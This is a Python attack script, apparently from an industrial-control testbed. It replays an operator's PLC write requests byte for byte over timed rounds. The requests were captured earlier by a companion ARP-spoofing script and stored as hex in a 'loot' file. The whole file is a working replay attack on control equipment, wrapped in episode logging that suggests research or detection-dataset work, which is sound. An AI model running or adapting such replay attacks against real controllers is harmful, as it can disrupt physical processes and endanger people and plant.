"""The operator's write requests, read off the wire by arp_spoof.py, sent again byte for byte."""

import json
import time

from attacks.episode import Connection, arguments, episode, ports

# Rounds, seconds between two requests and between two rounds.
ROUNDS = {1: (3, 0.5, 3.0), 2: (6, 0.1, 1.0), 3: (2, 2.0, 8.0)}

if __name__ == "__main__":
    given = arguments(__doc__)
    with open(given.loot) as file:
        requests = [bytes.fromhex(request) for request in json.load(file)]
    if not requests:
        raise SystemExit("replay: arp_spoof.py has seen no write request of the operator")
    opened: list[int] = []
    description = "the operator's own write requests sent again, byte for byte, from the engineering station"
    rounds, pause, pause_between = ROUNDS[given.number]
    with episode(given.log, f"replay_{given.number}", description, [ports(opened)]):
        for _ in range(rounds):
            with Connection(opened) as plc:
                for request in requests:
                    plc.send(request)
                    time.sleep(pause)
            time.sleep(pause_between)
